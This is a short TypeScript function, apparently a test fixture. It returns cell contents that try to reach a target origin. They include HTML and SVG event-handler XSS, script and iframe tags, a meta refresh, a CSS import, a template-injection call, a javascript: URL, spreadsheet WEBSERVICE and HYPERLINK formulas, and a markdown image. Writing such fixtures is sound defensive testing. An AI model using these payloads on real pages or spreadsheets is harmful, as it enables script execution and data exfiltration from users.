/** Returns cells that try to send, show or run something. Each names an address of another origin. */
export function hostileTexts(target: string): string[] {
  return [
    `<img src="${target}cell/image" onerror="fetch('${target}cell/handler')">`,
    `<script src="${target}cell/script"></script>`,
    `<svg onload="location='${target}cell/svg'"><image href="${target}cell/svg-image"/></svg>`,
    `<iframe src="${target}cell/frame"></iframe>`,
    `<link rel="prefetch" href="${target}cell/prefetch">`,
    `<meta http-equiv="refresh" content="0;url=${target}cell/refresh">`,
    `<form action="${target}cell/form"><button autofocus>Buy</button></form>`,
    `<style>@import url(${target}cell/style);</style>`,
    `"><b style="background:url(${target}cell/background)">`,
    `javascript:fetch('${target}cell/address')`,
    `{{constructor.constructor("fetch('${target}cell/template')")()}}`,
    `=WEBSERVICE("${target}cell/formula")`,
    `=HYPERLINK("${target}cell/link","Buy")`,
    `![Buy](${target}cell/markdown)`,
    `${target}cell/plain`,
  ];
}
